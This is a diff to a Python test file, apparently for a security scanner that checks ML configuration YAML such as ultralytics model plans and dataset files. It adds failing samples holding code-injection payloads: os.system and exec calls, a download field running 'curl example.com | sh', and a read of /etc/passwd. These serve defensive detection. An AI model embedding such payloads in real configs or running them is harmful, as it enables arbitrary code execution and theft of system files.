@@ -37,6 +37,11 @@ MAPS = b"a: &a {x: 1}\n" + b"".join(
 )
 
 
+# The plan of a model and the file of a data set, as ultralytics reads them.
+PLAN = b"nc: 1\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\nhead:\n  - [[-1, 1], 1, Concat, [1]]\n"
+DATA = b"path: set\ntrain: a\nval: b\nnames:\n  0: cat\n"
+
+
 def laughs(levels: int, width: int, *, lines: bool = False) -> bytes:
     """Return YAML lists, each of so many aliases to the one before, in brackets or a line each."""
     text, before = "", "x"
@@ -120,6 +125,39 @@ RULES: dict[str, dict[str, dict[str, bytes]]] = {
             "diffusers.json": b'{"_class_name": "Pipeline", "unet": ["diffusers", "UNet2DConditionModel"]}',
             "attention.json": config(attn_implementation="flash_attention_2", _attn_implementation="sdpa"),
             "refused.yaml": b"model: m\ntrust_remote_code: false\n",
+        },
+    },
+    "config-evaluates": {
+        "fail": {
+            "activation.yaml": PLAN + b"activation: __import__('os').system('id')\n",
+            "layer.yaml": PLAN.replace(b"Conv", b"os.system"),
+            "function.yaml": PLAN.replace(b"Conv", b"eval"),
+            "argument.yaml": PLAN.replace(b"64", b"exec('x')"),
+            "times.yaml": PLAN.replace(b"-1, 1,", b"-1, print(1),"),
+            "download.yaml": DATA + b"download: |\n  import os\n  os.system('id')\n",
+            "in-brackets.yaml": b"{train: a, nc: 1, download: \"__import__('os').system('id')\"}",
+            "merged.yaml": b"x: &x\n  download: exec('1')\n<<: *x\n" + DATA,
+            "escaped.yaml": DATA + b'"\\x64ownload": exec(1)\n',
+            "shell.yaml": DATA + b"download: bash -c 'curl example.com | sh'\n",
+            "no-python.yaml": DATA + b"download: |\n  if (\n",
+        },
+        "pass": {
+            "plan.yaml": PLAN + b"activation: nn.LeakyReLU(0.1)\n",
+            "own-layer.yaml": PLAN.replace(b"Conv", b"my_block"),
+            "yolo10.yaml": PLAN.replace(b"Conv", b"v10Detect"),
+            "not-a-plan.yaml": b"activation: call(me)\nbackbone: resnet50\nhead: mlp\n",
+            "address.yaml": DATA + b"download: https://example.com/set.zip\n",
+        },
+    },
+    "config-script": {
+        "fail": {
+            "writes.yaml": DATA + b"download: |\n  from pathlib import Path\n  Path('/x').write_text('y')\n",
+            "one-line.yaml": DATA + b"download: print(open('/etc/passwd').read())\n",
+        },
+        "pass": {
+            "address.yaml": DATA + b"download: https://example.com/set.zip\n",
+            "beside.yaml": DATA + b"download: bash data/scripts/get_set.sh\n",
+            "no-data.yaml": b"download: |\n  what a program of yours does with it\nnames: [a]\n",
         },
     },
     "config-outside-path": {
